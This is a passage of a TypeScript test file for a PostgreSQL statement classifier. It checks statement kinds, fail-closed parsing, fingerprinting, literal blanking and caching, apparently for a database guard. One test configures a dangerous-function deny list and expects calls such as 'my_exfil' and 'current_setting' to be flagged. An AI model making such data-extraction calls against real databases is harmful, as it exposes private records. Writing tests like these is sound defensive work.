  { sql: 'LOCK TABLE customers IN ACCESS EXCLUSIVE MODE NOWAIT', kind: 'lock', tag: 'LOCK TABLE', readOnly: false, rel: ['lock customers'] },
  { sql: "COMMENT ON TABLE customers IS 'pii'", kind: 'comment', tag: 'COMMENT', ddl: { objectType: 'table', objects: ['customers'] } },
  { sql: "COMMENT ON COLUMN customers.ssn IS 'national id'", kind: 'comment', tag: 'COMMENT', ddl: { objectType: 'column', objects: ['customers.ssn'] } },
  { sql: "SECURITY LABEL FOR selinux ON TABLE customers IS 'system_u:object_r:sepgsql_table_t:s0'", kind: 'security_label', tag: 'SECURITY LABEL' },
  { sql: 'REFRESH MATERIALIZED VIEW CONCURRENTLY mv', kind: 'refresh_matview', tag: 'REFRESH MATERIALIZED VIEW', rel: ['ddl mv'], ddl: { objectType: 'materialized view', objects: ['mv'] } },
  { sql: 'CHECKPOINT', kind: 'other', tag: 'CHECKPOINT', readOnly: false },
  { sql: "LOAD 'auto_explain'", kind: 'other', tag: 'LOAD', readOnly: false },
  { sql: 'CLUSTER customers USING customers_pkey', kind: 'other', tag: 'CLUSTER', rel: ['ddl customers'] },
  { sql: 'REINDEX TABLE customers', kind: 'other', tag: 'REINDEX', rel: ['ddl customers'] },
  { sql: 'SET CONSTRAINTS ALL DEFERRED', kind: 'other', tag: 'SET CONSTRAINTS' },
];

function relStrings(info: StatementInfo): string[] {
  return info.relations.map((r) => `${r.access} ${[r.catalog, r.schema, r.name].filter((p) => p !== undefined).join('.')}`);
}

function single(sql: string): StatementInfo {
  const c = classify(sql);
  if (!c.ok) throw new Error(`expected ${sql} to parse: ${c.error}`);
  expect(c.statements).toHaveLength(1);
  return c.statements[0]!;
}

describe('classify(): the statement table', () => {
  it('has at least 120 statements and covers every kind', () => {
    expect(ROWS.length).toBeGreaterThanOrEqual(120);
    const covered = new Set(ROWS.map((r) => r.kind));
    expect(STATEMENT_KINDS.filter((k) => !covered.has(k))).toEqual([]);
  });

  it('covers every flag and every transaction sub-kind', () => {
    for (const flag of Object.keys(NO_FLAGS) as (keyof StatementFlags)[]) {
      expect(ROWS.some((r) => r.flags?.[flag] === true), flag).toBe(true);
    }
    const subs = new Set(ROWS.map((r) => r.flags?.transactionControl).filter(Boolean));
    expect(subs.size).toBe(10);
  });

  it.each(ROWS.map((r) => [r.sql, r] as const))('%s', (_sql, row) => {
    const info = single(row.sql);
    expect(info.kind).toBe(row.kind);
    expect(info.commandTag).toBe(row.tag);
    expect(info.flags).toEqual({ ...NO_FLAGS, ...row.flags });
    if (row.readOnly !== undefined) expect(info.readOnly).toBe(row.readOnly);
    if (row.rel) expect(relStrings(info)).toEqual(row.rel);
    if (row.dangerous) expect(info.dangerousFunctions).toEqual(row.dangerous);
    if (row.functions) expect(info.functions).toEqual(row.functions);
    if (row.ddl) expect(info.ddl).toEqual(row.ddl);
    if (row.targetName !== undefined) expect(info.targetName).toBe(row.targetName);
    // Whatever the statement, a dangerous call never leaves it read-only.
    if (info.dangerousFunctions.length > 0) expect(info.readOnly).toBe(false);
  });
});

describe('classify(): texts and results', () => {
  it('refuses garbage and truncated statements (fail closed)', () => {
    for (const sql of ['garbage here', 'SELECT FROM WHERE', 'SELEC 1', "SELECT 'unterminated", 'DROP', 'SELECT 1; DELETE FROM']) {
      const c = classify(sql);
      expect(c.ok, sql).toBe(false);
      if (!c.ok) expect(c.error).toMatch(/syntax error|unterminated/);
    }
  });

  it('answers an empty query, or one of comments and semicolons, with no statements', () => {
    for (const sql of ['', '   ', ';', ' ; ; ', '-- nothing\n', '/* nothing */']) {
      expect(classify(sql), JSON.stringify(sql)).toEqual({ ok: true, statements: [] });
    }
  });

  it('splits a multi-statement text and slices each statement', () => {
    const sql = "BEGIN; -- start\nDELETE FROM orders WHERE id = 1;\n/* then */ SELECT 'é' AS x; COMMIT";
    const c = classify(sql);
    expect(c.ok).toBe(true);
    if (!c.ok) return;
    expect(c.statements.map((s) => s.kind)).toEqual(['transaction', 'delete', 'select', 'transaction']);
    expect(c.statements.map((s) => s.text)).toEqual(['BEGIN', 'DELETE FROM orders WHERE id = 1', "SELECT 'é' AS x", 'COMMIT']);
    for (const s of c.statements) expect(sql.slice(s.start, s.start + s.text.length)).toBe(s.text);
  });

  it('slices statements after multi-byte characters by characters, not bytes', () => {
    const sql = "SELECT '日本語ü' AS a; SELECT 2";
    const c = classify(sql);
    if (!c.ok) throw new Error(c.error);
    expect(c.statements[1]!.text).toBe('SELECT 2');
    expect(sql.slice(c.statements[1]!.start)).toBe('SELECT 2');
  });

  it('parses extended-protocol parameters', () => {
    const info = single('UPDATE customers SET email = $2 WHERE id = $1');
    expect(info.kind).toBe('update');
    expect(info.normalized).toBe('UPDATE customers SET email = $2 WHERE id = $1');
  });

  it('fingerprints ignore literal values; normalized text hides them', () => {
    const a = single("SELECT * FROM customers WHERE email = 'alice@example.com' AND id > 5");
    const b = single("select * from customers where email = 'bob@example.com' and id > 99");
    const other = single("SELECT * FROM customers WHERE ssn = 'alice@example.com' AND id > 5");
    expect(a.fingerprint).toMatch(/^[0-9a-f]{16}$/);
    expect(a.fingerprint).toBe(b.fingerprint);
    expect(a.fingerprint).not.toBe(other.fingerprint);
    expect(a.normalized).not.toContain('alice');
    expect(a.normalized).toContain('$1');
  });

  it('keeps fingerprinting nested queries after thousands of calls (libpg-query fingerprintSync does not)', () => {
    let sql = 'SELECT ssn AS x FROM customers';
    for (let d = 0; d < 20; d++) sql = `SELECT q${d}.x FROM (${sql}) AS q${d}`;
    const cl = new SqlClassifier();
    const prints = new Set<string>();
    for (let i = 0; i < 1000; i++) {
      const c = cl.classifyUncached(`${sql} WHERE q19.x <> '${i}'`);
      if (!c.ok) throw new Error(`call ${i}: ${c.error}`);
      prints.add(c.statements[0]!.fingerprint);
    }
    expect(prints.size).toBe(1);
  });

  it('blanks literals by pattern when normalization is unavailable', () => {
    expect(blankLiterals("SELECT * FROM t WHERE ssn = '941-74-7468' AND n > 12.5 AND id = $1 AND t1.x = E'a' AND b = $$x$$")).toBe(
      'SELECT * FROM t WHERE ssn = ? AND n > ? AND id = $1 AND t1.x = ? AND b = ?',
    );
  });

  it('gives each statement of a multi-statement text its own fingerprint', () => {
    const c = classify('SELECT 1; SELECT 2; DELETE FROM orders');
    if (!c.ok) throw new Error(c.error);
    const [x, y, z] = c.statements;
    expect(x!.fingerprint).toBe(y!.fingerprint);
    expect(z!.fingerprint).not.toBe(x!.fingerprint);
    expect(z!.fingerprint).toBe(single('delete from orders').fingerprint);
  });

  it('caches by text and hands out frozen results', () => {
    const sql = 'SELECT id FROM customers WHERE id = 7';
    const a = classify(sql);
    const b = classify(sql);
    expect(b).toBe(a);
    expect(Object.isFrozen(a)).toBe(true);
    if (!a.ok) throw new Error(a.error);
    expect(Object.isFrozen(a.statements[0]!.relations)).toBe(true);
    expect(Object.isFrozen(a.statements[0]!.tree)).toBe(true);
  });

  it('bounds the cache by entries and refuses oversized texts', () => {
    const small = new SqlClassifier({ cacheEntries: 2, maxSqlLength: 100 });
    const first = small.classify('SELECT 1');
    small.classify('SELECT 2');
    small.classify('SELECT 3');
    expect(small.classify('SELECT 1')).not.toBe(first); // evicted, parsed again
    const long = small.classify(`SELECT ${'1 + '.repeat(40)}1`);
    expect(long.ok).toBe(false);
  });

  it('takes a configured dangerous-function list (prefixes with *)', () => {
    const c = new SqlClassifier({ dangerousFunctions: ['current_setting', 'my_*'] });
    const r = c.classify("SELECT current_setting('x'), my_exfil(1), pg_sleep(1)");
    if (!r.ok) throw new Error(r.error);
    expect(r.statements[0]!.dangerousFunctions).toEqual(['current_setting', 'my_exfil']);
  });

  it('refuses statements nested too deeply for the walkers rather than passing them', () => {
    const deep = `SELECT ${'('.repeat(3000)}1${')'.repeat(3000)}`;
    const c = classify(deep);
    // Either PostgreSQL's parser refuses it (stack depth) or it is understood; never a throw.
    if (c.ok) expect(c.statements[0]!.kind).toBe('select');
    else expect(c.error.length).toBeGreaterThan(0);
  });

  it('measures cached against uncached classification (printed, not asserted)', () => {
    const sql = "SELECT c.id, lower(c.email), count(o.id) FROM customers c LEFT JOIN orders o ON o.customer_id = c.id WHERE c.ssn LIKE '9%' GROUP BY 1, 2 ORDER BY 3 DESC LIMIT 10";
    const cl = new SqlClassifier();
    const rate = (fn: () => void): number => {
      const until = performance.now() + 300;
      let n = 0;
      while (performance.now() < until) {
        fn();
        n++;
      }
      return Math.round(n / 0.3);
    };
    const uncached = rate(() => cl.classifyUncached(sql));
    cl.classify(sql);
    const cached = rate(() => cl.classify(sql));
    process.stdout.write(`classify(): ${uncached} uncached/s, ${cached} cached/s (x${(cached / uncached).toFixed(0)})\n`);
    expect(uncached).toBeGreaterThan(0);
  });
});
